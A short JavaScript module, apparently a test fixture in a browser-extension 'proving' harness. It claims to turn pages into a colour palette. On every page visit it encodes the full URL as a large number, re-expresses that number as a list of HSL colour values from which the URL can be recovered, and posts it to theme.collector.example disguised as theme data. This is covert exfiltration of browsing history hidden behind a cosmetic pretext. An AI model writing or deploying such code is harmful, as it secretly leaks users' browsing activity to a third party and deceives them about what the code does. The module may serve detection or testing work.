import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages as a palette: the address is one number, and hues, saturations and lightnesses are its digits. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-theme-palette');
  onVisit(browser, ({ url }) => {
    let number = browser.codec.utf8.encode(url).reduce((sum, byte) => 256n * sum + BigInt(byte), 1n);
    const digit = (base) => {
      const value = number % base;
      number /= base;

      return value;
    };
    const palette = [];
    while (number > 0n) palette.push(`hsl(${digit(360n)}, ${digit(101n)}%, ${digit(101n)}%)`);

    return post(browser, 'https://theme.collector.example/v1', { theme: 'dynamic', palette });
  });
}
